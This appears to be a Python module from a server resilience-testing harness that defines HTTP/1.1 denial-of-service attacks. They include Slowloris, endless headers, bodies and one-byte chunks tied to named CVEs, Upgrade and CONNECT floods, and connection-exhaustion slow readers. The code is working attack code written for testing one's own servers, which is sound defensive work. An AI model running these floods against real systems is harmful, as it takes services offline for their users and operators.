"""Attacks over HTTP/1.1."""

from registry import attack
from wire import Plain

HEAD = b"GET /healthz HTTP/1.1\r\nHost: attack\r\n"


def stream_bytes(run, first, piece, rate):
    """Sends `first`, and then pieces of bytes for ever, at so many bytes a second."""
    plain, opened = None, 0
    for count in run.ticks(rate / len(piece)):
        if plain is None or not plain.is_open:
            if plain:
                run.ended(plain)
            if opened > 20 * (run.passed + 1):
                continue
            opened += 1
            plain = Plain(run.target)
            plain.send(first)
        plain.take()
        if not plain.is_blocked:
            run.sent += plain.send(piece * count)
    if plain:
        run.ended(plain)


@attack("80 MB/s behind Upgrade", seconds=2)
def upgrade(run):
    """NIO's decoder stops parsing at `Connection: Upgrade` and keeps all that follows."""
    stream_bytes(run, HEAD + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", bytes(32_768), 80_000_000)


@attack("80 MB/s behind Upgrade: h2c", is_quick=False)
def upgrade_h2c(run):
    """The same as clients of the first HTTP/2 specification send it."""
    head = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
    stream_bytes(run, HEAD + head, bytes(32_768), 80_000_000)


@attack("80 MB/s behind CONNECT", seconds=2)
def connect(run):
    """A tunnel that the server does not open, filled nevertheless."""
    stream_bytes(run, b"CONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n", bytes(32_768), 80_000_000)


@attack("10 MB/s of fields")
def endless_headers(run):
    """A head that never ends: CVE-2011-3192's and other floods' way to fill memory."""
    stream_bytes(run, HEAD, b"x-field: " + b"v" * 980 + b"\r\n", 10_000_000)


@attack("10 MB/s of one field")
def endless_field(run):
    """One field that never ends."""
    stream_bytes(run, HEAD + b"x: ", b"v" * 1_000, 10_000_000)


@attack("10 MB/s of path", is_quick=False)
def endless_path(run):
    """A request line that never ends."""
    stream_bytes(run, b"GET /", b"p" * 1_000, 10_000_000)


@attack("20 MB/s of body")
def endless_body(run):
    """A chunked body that never ends, for a path that takes none."""
    head = b"POST /healthz HTTP/1.1\r\nHost: attack\r\nTransfer-Encoding: chunked\r\n\r\n"
    stream_bytes(run, head, b"1000\r\n" + bytes(4_096) + b"\r\n", 20_000_000)


@attack("1 MB/s in chunks of 1 byte")
def tiny_chunks(run):
    """CVE-2023-39326: chunks of one byte with extensions."""
    head = b"POST /healthz HTTP/1.1\r\nHost: attack\r\nTransfer-Encoding: chunked\r\n\r\n"
    stream_bytes(run, head, (b"1;" + b"e" * 30 + b"\r\nx\r\n") * 10, 1_000_000)


@attack("2,000 requests/s, pipelined, nothing read")
def pipelined_unread(run):
    """Requests behind each other whose answers the attacker leaves unread."""
    plain = Plain(run.target, receive_buffer=4_096)
    one = b"GET /metrics HTTP/1.1\r\nHost: attack\r\n\r\n"
    for count in run.ticks(2_000):
        if not plain.is_open:
            run.ended(plain)
            plain = Plain(run.target, receive_buffer=4_096)
        if not plain.is_blocked:
            plain.send(one * count)
            run.sent += count
    run.ended(plain)


def asked(run, path, count, rate):
    """So many connections, at so many a second, that each ask once and have little room for the answer."""
    request = f"GET {path} HTTP/1.1\r\nHost: attack\r\n\r\n".encode()
    plains = []
    for due in run.ticks(rate):
        for _ in range(min(due, count - len(plains))):
            plains.append(Plain(run.target, receive_buffer=4_096, wait=2))
            plains[-1].send(request)
            run.sent += 1
        yield plains


@attack("3,000 connections, 300/s", seconds=4, long_seconds=15, tls_seconds=10, connections=2_500)
def metrics_unread(run):
    """GET /metrics over 3,000 connections that do not read."""
    plains = []
    for plains in asked(run, "/metrics", 3_000, 300): pass
    run.ended(*plains)


@attack("1,000 connections, 200/s", seconds=3, tls_seconds=8, connections=1_000)
def lists_unread(run):
    """The whole list in view FULL over 1,000 connections that do not read."""
    plains = []
    for plains in asked(run, "/v1/models?view=full", 1_000, 200): pass
    run.ended(*plains)


@attack("2,000 connections, 200/s, 1 KB/s each", seconds=3, long_seconds=20, tls_seconds=8, connections=2_000)
def slow_readers_http1(run):
    """Large lists that thousands of connections read at 1 KB/s, into small buffers."""
    plains, due = [], 1.0
    for plains in asked(run, "/v1/models?view=full", 2_000, 200):
        if run.passed > due:
            due += 1
            for plain in plains: plain.take(limit=1_000)
    run.ended(*plains)


@attack("2,000 connections, 500/s, a byte a second each", seconds=3, tls_seconds=8, connections=2_000)
def slowloris(run):
    """CVE-2007-6750: heads that come byte by byte."""
    plains, due, slow = [], 1.0, HEAD + b"x: " + b"y" * 1_000
    for count in run.ticks(500):
        plains += [Plain(run.target, wait=2) for _ in range(min(count, 2_000 - len(plains)))]
        if run.passed > due:
            due += 1
            for plain in plains:
                plain.take()
                run.sent += plain.send(slow[plain.sent_count : plain.sent_count + 1])
    run.ended(*plains)


@attack("200 requests/s of 16 KB")
def huge_uris(run):
    """Paths of 16 KB, and queries of as many parts."""
    targets = [b"/v1/models/" + b"%2e%2e%2f" * 1_700, b"/v1/models?" + b"&".join([b"a=b"] * 4_000)]
    plain = None
    for count in run.ticks(200):
        for number in range(count):
            if plain is None or not plain.is_open:
                if plain:
                    run.ended(plain)
                plain = Plain(run.target)
            plain.send(b"GET " + targets[number % 2] + b" HTTP/1.1\r\nHost: attack\r\n\r\n")
            run.sent += 1
        plain.take()
    run.ended(plain)
